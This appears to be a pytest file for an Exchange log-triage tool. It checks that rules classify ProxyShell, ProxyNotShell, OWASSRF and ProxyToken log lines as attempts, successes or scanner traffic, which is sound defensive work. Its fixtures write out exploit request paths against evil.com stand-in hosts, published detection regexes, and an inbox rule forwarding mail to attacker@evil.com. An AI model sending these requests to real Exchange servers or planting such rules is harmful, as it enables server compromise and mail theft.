"""Later-wave log rules against the real quoted lines and published detection strings of the reference."""

from __future__ import annotations

import csv
import io
import re

import pytest

from conftest import TEST_DATA, shared_root
from extriage.detections.logrules import load_rules
from extriage.findings import Outcome
from extriage.formats import rps_http
from extriage.formats.records import parse_record
from extriage.probe import USER_AGENT as PROBE_UA
from extriage.probe.confirm import PROXYNOTSHELL_PATH, PROXYSHELL_PATH


def _httpproxy_fields() -> list[str]:
    """The real 74-field HttpProxy #Fields list (Qazeer sample in the shared data, CC0)."""
    text = (TEST_DATA / "log-samples-cc0/microsoft_exchange.md").read_text(encoding="utf-8")
    for line in text.splitlines():
        if line.startswith("#Fields: DateTime,RequestId,MajorVersion") and "AnchorMailbox" in line:
            return line.split(":", 1)[1].strip().split(",")
    raise AssertionError("HttpProxy #Fields line not found in the shared sample")


HP_NAMES = _httpproxy_fields()


def hp_row(**kw: str) -> str:
    base = {"MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2176", "RevisionVersion": "2",
            "ServerHostName": "EXSRV", "Method": "POST"}
    base.update(kw)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([base.get(f, "") for f in HP_NAMES])
    return buf.getvalue()



def _reference() -> str:
    """The shared reference notes (skips the calling test when ../shared is absent)."""
    return (shared_root() / "reference/logs-and-detections.md").read_text(encoding="utf-8")

IIS_NAMES = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
             "cs(Referer) sc-status sc-substatus sc-win32-status time-taken").split()


def classify(family: str, line: str, names: list[str] | tuple[str, ...] = ()) -> list[tuple[str, str, Outcome]]:
    fields, _ = parse_record(family, line, list(names))
    out = []
    for rule in load_rules().for_family(family):
        cls = rule.classify(dict(fields))
        if cls:
            out.append((rule.id, cls.case.id, cls.outcome))
    return out


def iis(stem: str, query: str, status: str, port: str = "443", user: str = "-", ip: str = "198.51.100.7",
        ua: str = "python-requests/2.26.0", method: str = "POST") -> str:
    return f"2021-08-09 10:00:00 10.0.0.10 {method} {stem} {query or '-'} {port} {user} {ip} {ua.replace(' ', '+')} - {status} 0 0 12"


def hp(url: str, status: str, user: str = "", ua: str = "python-requests/2.26.0", protocol: str = "Autodiscover") -> str:
    stem, _, query = url.partition("?")
    return hp_row(DateTime="2021-08-09T10:00:00.000Z", Protocol=protocol, UrlStem=stem, UrlQuery="?" + query if query else "",
                  HttpStatus=status, AuthenticatedUser=user, UserAgent=ua, ClientIpAddress="198.51.100.7")


# -- ProxyShell ----------------------------------------------------------------------------------

def _hamad_she_line() -> str:
    """The ProxyShell IIS line quoted in the reference (hamad-she.github.io), as quoted."""
    m = re.search(r"`(2021-03-03 15:20:53 [^`]+)`", _reference())
    assert m, "hamad-she ProxyShell line not found in the reference"
    return m.group(1)


def test_hamad_she_proxyshell_line_as_quoted() -> None:
    line = _hamad_she_line()
    assert "/autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=" in line
    # the quote stops after the query: the status is unknown, so it is an attempt, never a success
    assert classify("iis", line, IIS_NAMES) == [("PS-34473-AUTODISCOVER", "powershell", Outcome.ATTEMPT)]


@pytest.mark.parametrize(("status", "outcome"), [("200", Outcome.SUCCESS), ("302", Outcome.SUCCESS),
                                                 ("401", Outcome.ATTEMPT), ("400", Outcome.ATTEMPT)])
def test_hamad_she_line_completed_classified_by_status(status: str, outcome: Outcome) -> None:
    line = _hamad_she_line().replace("...", "x") + f" 443 - 203.0.113.9 python-requests/2.26.0 - {status} 0 0 15"
    assert classify("iis", line, IIS_NAMES) == [("PS-34473-AUTODISCOVER", "powershell", outcome)]


@pytest.mark.parametrize("poc", ["autodiscover.json?@", "autodiscover.json%3f@", "%3f@foo.com",
                                 "Email=autodiscover/autodiscover.json", "json?@foo.com"])
def test_sigma_proxyshell_poc_strings_in_httpproxy(poc: str) -> None:
    # Sigma 23eee45e / 992be1eb: the PoC strings plus one of /powershell, /mapi/nspi, /EWS, X-Rps-CAT
    if poc.startswith("Email="):
        url = f"/autodiscover/autodiscover.json?@x.org/mapi/nspi/?&{poc}%3F@x.org"
    elif poc.startswith("autodiscover"):
        url = f"/autodiscover/{poc}x.org/mapi/nspi/"
    else:
        url = f"/autodiscover/autodiscover.json/x{poc}/mapi/nspi/"
    assert classify("httpproxy", hp(url, "200"), HP_NAMES) == [("PS-34473-AUTODISCOVER", "mapi", Outcome.SUCCESS)]
    assert classify("httpproxy", hp(url, "401"), HP_NAMES) == [("PS-34473-AUTODISCOVER", "mapi", Outcome.ATTEMPT)]


@pytest.mark.parametrize(("target", "case"), [("EWS/exchange.asmx", "ews"), ("powershell/?X-Rps-CAT=abc", "powershell"),
                                              ("autodiscover/autodiscover.xml", "autodiscover-xml"),
                                              ("ecp/default.aspx", "other")])
def test_proxyshell_targets(target: str, case: str) -> None:
    q = f"@evil.corp/{target}&Email=autodiscover/autodiscover.json%3F@evil.corp"
    got = classify("iis", iis("/autodiscover/autodiscover.json", q, "200"), IIS_NAMES)
    assert got == [("PS-34473-AUTODISCOVER", case, Outcome.ATTEMPT if case == "other" else Outcome.SUCCESS)]


def test_signature_base_proxyshell_strings() -> None:
    # expl_proxyshell.yar: /autodiscover/autodiscover\.json[^\n]{1,300}/(powershell|X-Rps-CAT) and
    # Email=autodiscover/autodiscover\.json[^\n]{1,400}200 0 0
    line = iis("/autodiscover/autodiscover.json", "@a.b/powershell/?X-Rps-CAT=Zm9v&Email=autodiscover/autodiscover.json%3F@a.b", "200")
    assert re.search(r"/autodiscover/autodiscover\.json[^\n]{1,300}/(powershell|X-Rps-CAT)", line)
    assert re.search(r"Email=autodiscover/autodiscover\.json[^\n]{1,400}200 0 0", line)
    assert classify("iis", line, IIS_NAMES)[0][2] == Outcome.SUCCESS


def test_proxyshell_backend_view_needs_computer_account() -> None:
    q = "X-Rps-CAT=Zm9v&Email=autodiscover/autodiscover.json%3F@a.b"
    back = iis("/powershell/", q, "200", port="444", user="CORP\\EXCH01$", ip="10.0.0.10")
    assert classify("iis", back, IIS_NAMES) == [("PS-34473-BACKEND", "powershell", Outcome.SUCCESS)]
    # the same line for a real user (ProxyNotShell's back end) is not ProxyShell
    assert classify("iis", back.replace("CORP\\EXCH01$", "CORP\\bob"), IIS_NAMES) == []


@pytest.mark.parametrize("variant", ["nessus", "probe-ua", "probe-domain"])
def test_proxyshell_scanners_are_labelled(variant: str) -> None:
    if variant == "nessus":
        line = iis("/autodiscover/autodiscover.json", "@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com", "302",
                   ua="Mozilla/4.0 (compatible; MSIE 8.0)")
    else:
        stem, _, query = PROXYSHELL_PATH.partition("?")
        line = iis(stem, query, "200", ua=PROBE_UA if variant == "probe-ua" else "curl/8")
        if variant == "probe-domain":
            assert "extriage-probe.invalid" in line
    assert classify("iis", line, IIS_NAMES) == [("PS-34473-AUTODISCOVER", "scanner", Outcome.SCANNER)]


# -- ProxyNotShell / OWASSRF -------------------------------------------------------------------------

PNS_Q = ("@evil.com/Powershell?serializationLevel=Full;ExchClientVer=15.1.2375.7;clientApplication=ManagementShell;"
         "TargetServer=;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@evil.com")


def test_proxynotshell_is_not_proxyshell() -> None:
    ok = iis("/autodiscover/autodiscover.json", PNS_Q, "200", user="CORP\\helpdesk")
    assert classify("iis", ok, IIS_NAMES) == [("PNS-41040-AUTODISCOVER", "default", Outcome.SUCCESS)]
    # signature-base's false positives: 401/404 and the back-end port 444
    assert classify("iis", ok.replace(" 200 0 0", " 401 0 0"), IIS_NAMES)[0][2] == Outcome.ATTEMPT
    assert classify("iis", iis("/autodiscover/autodiscover.json", PNS_Q, "200", port="444", user="CORP\\helpdesk"), IIS_NAMES) == []
    gtsc = "@evil.com/owa/&Email=autodiscover/autodiscover.json%3f@evil.com&Protocol=XYZ&FooProtocol=Powershell"
    assert classify("httpproxy", hp("/autodiscover/autodiscover.json?" + gtsc, "401"), HP_NAMES) == [
        ("PNS-41040-AUTODISCOVER", "default", Outcome.ATTEMPT)]


def test_proxynotshell_scanners_and_own_probe() -> None:
    nessus = iis("/autodiscover/autodiscover.json", PNS_Q.replace("evil.com", "test.com"), "200", user="CORP\\x")
    assert classify("iis", nessus, IIS_NAMES) == [("PNS-41040-AUTODISCOVER", "scanner", Outcome.SCANNER)]
    stem, _, query = PROXYNOTSHELL_PATH.partition("?")
    probe = iis(stem, query, "400", ua=PROBE_UA)
    assert classify("iis", probe, IIS_NAMES) == [("PNS-41040-AUTODISCOVER", "scanner", Outcome.SCANNER)]


def test_owassrf_sigma() -> None:
    chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.5195.54 Safari/537.36"
    line = iis("/owa/mastermailbox%40outlook.com/powershell", "", "200", user="CORP\\bob", ua=chrome)
    assert classify("iis", line, IIS_NAMES) == [("PNS-41080-OWASSRF", "post-200", Outcome.SUCCESS)]
    assert classify("iis", line.replace(" 200 0 0", " 401 0 0"), IIS_NAMES) == [("PNS-41080-OWASSRF", "default", Outcome.ATTEMPT)]
    winrm = iis("/owa/bob@contoso.com/powershell", "", "200", ua="Microsoft WinRM Client")
    assert classify("iis", winrm, IIS_NAMES) == [("PNS-41080-OWASSRF", "exchange-client", Outcome.INFO)]
    row = hp("/owa/mastermailbox@outlook.com/powershell", "200", user="CORP\\bob", ua=chrome, protocol="Owa")
    assert classify("httpproxy", row, HP_NAMES) == [("PNS-41080-OWASSRF", "post-200", Outcome.SUCCESS)]
    assert classify("iis", iis("/owa/auth/logon.aspx", "", "200"), IIS_NAMES) == []


def _reference_rps_columns() -> list[str]:
    sec = _reference().split("### 1e.", 1)[1].split("### 1f.", 1)[0]
    m = re.search(r"Columns \(CrowdStrike hard-codes them\): (.*?)\.\n", sec, re.S)
    assert m
    return [c.strip().strip("`") for c in " ".join(m.group(1).split()).split(",")]


def test_rps_http_columns_are_crowdstrikes() -> None:
    assert list(rps_http.FIELDS) == _reference_rps_columns()


def _rps(client_info: str, chain: str, status: str = "200") -> str:
    row = dict.fromkeys(rps_http.FIELDS, "")
    row.update(DateTime="2022-12-01T10:00:00.123Z", StartTime="2022-12-01T09:59:59.900Z", UrlStem="/powershell",
               AuthenticatedUser="CORP\\bob", ClientIpAddress=chain, HttpStatus=status, CommandName="Get-Mailbox",
               ClientInfo=client_info)
    return ",".join(row.values())


@pytest.mark.parametrize("with_header", [True, False])
def test_rps_http_crowdstrike_logic(with_header: bool) -> None:
    names = list(rps_http.FIELDS) if with_header else []
    got = classify("rps_http", _rps("python-requests/2.28.1", "203.0.113.5 10.0.0.10"), names)
    assert got == [("PNS-RPS-CLIENTINFO", "proxy-chain", Outcome.SUCCESS)]
    fields, ts = parse_record("rps_http", _rps("x", "203.0.113.5 10.0.0.10"), names)
    assert fields["ClientIp"] == "203.0.113.5" and fields["ProxyChain"] == "203.0.113.5 -> 10.0.0.10" and ts is not None
    assert classify("rps_http", _rps("python-requests/2.28.1", "203.0.113.5", "500"), names) == [
        ("PNS-RPS-CLIENTINFO", "default", Outcome.ATTEMPT)]
    for expected in ("Microsoft WinRM Client", "Exchange BackEnd Probes"):
        assert classify("rps_http", _rps(expected, "10.0.0.5"), names) == [("PNS-RPS-EXPECTED", "default", Outcome.INFO)]
    assert classify("rps_http", _rps("", "10.0.0.5"), names) == []
    assert classify("rps_http", _rps(PROBE_UA, "198.51.100.1"), names)[0][2] == Outcome.SCANNER


def test_rps_prefilter_selects_rps_rows_not_httpproxy_rows() -> None:
    from extriage.formats.prefilter import Prefilter

    rule = load_rules().get("PNS-RPS-CLIENTINFO")
    assert rule is not None
    pf = Prefilter(rule.prefilter, rule.prefilter_regex, "re2")
    assert pf.line_spans(_rps("x", "1.2.3.4").encode())
    assert not pf.line_spans(hp("/owa/", "200").encode())


# -- ProxyToken ------------------------------------------------------------------------------------

def test_proxytoken_sigma() -> None:
    stem = "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject"
    assert classify("iis", iis(stem, "SecurityToken=", "500"), IIS_NAMES) == [("PT-33766-INBOXRULE", "token-500", Outcome.SUCCESS)]
    assert classify("iis", iis(stem, "SecurityToken=", "403"), IIS_NAMES) == [("PT-33766-INBOXRULE", "default", Outcome.ATTEMPT)]
    assert classify("iis", iis("/ecp/RulesEditor/InboxRules.svc/NewObject", "msExchEcpCanary=x", "500", user="CORP\\bob"),
                    IIS_NAMES) == [("PT-33766-INBOXRULE", "newobject-500", Outcome.ATTEMPT)]
    # an ordinary user creating a rule in ECP is nothing
    assert classify("iis", iis("/ecp/RulesEditor/InboxRules.svc/NewObject", "msExchEcpCanary=x", "200", user="CORP\\bob"),
                    IIS_NAMES) == []
    row = hp(stem + "?SecurityToken=", "500", protocol="Ecp")
    assert classify("httpproxy", row, HP_NAMES) == [("PT-33766-INBOXRULE", "token-500", Outcome.SUCCESS)]


def test_ecp_forwarding_rule_is_found() -> None:
    """Outcome and wording are settled after the scan (detections/forwarding.py); the rule finds it."""
    line = ("2021-09-01T10:00:00.000Z,EXCH01,ECP.Request,S:TIME=10;S:SID=S-1-5-21-1;S:CMD=New-InboxRule.Name=x"
            ".ForwardTo=attacker@evil.com.StopProcessingRules=True;S:URL=/ecp/RulesEditor/InboxRules.svc/NewObject")
    got = classify("ecp", line, ["TimeStamp", "ServerName", "EventId", "EventData"])
    assert got == [("MAIL-FWD-ECP", "inbox-rule", Outcome.ATTEMPT)]
